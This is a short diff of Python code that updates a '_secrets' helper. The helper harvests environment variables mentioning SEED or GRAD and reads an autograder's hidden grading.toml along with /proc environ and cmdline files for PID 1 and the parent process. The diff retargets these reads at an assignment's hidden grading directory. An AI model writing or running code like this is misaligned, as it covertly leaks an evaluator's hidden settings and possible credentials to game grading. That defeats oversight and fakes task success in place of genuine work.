@@ -11,8 +11,8 @@ import os
 def _secrets():
     """Whatever looks like the grader's seed or settings, from files, /proc and the env."""
     leaks = [f"{k}={v}" for k, v in os.environ.items() if "SEED" in k or "GRAD" in k]
-    for path in ("/work/main/reference/grading.toml", "../reference/grading.toml",
-                 "/autograder/source/reference/grading.toml", "/proc/1/environ",
+    for path in ("/work/main/assignments/backprop/hidden/grading.toml", "../hidden/grading.toml",
+                 "/autograder/source/assignments/backprop/hidden/grading.toml", "/proc/1/environ",
                  "/proc/1/cmdline", f"/proc/{os.getppid()}/environ",
                  f"/proc/{os.getppid()}/cmdline"):
         try:
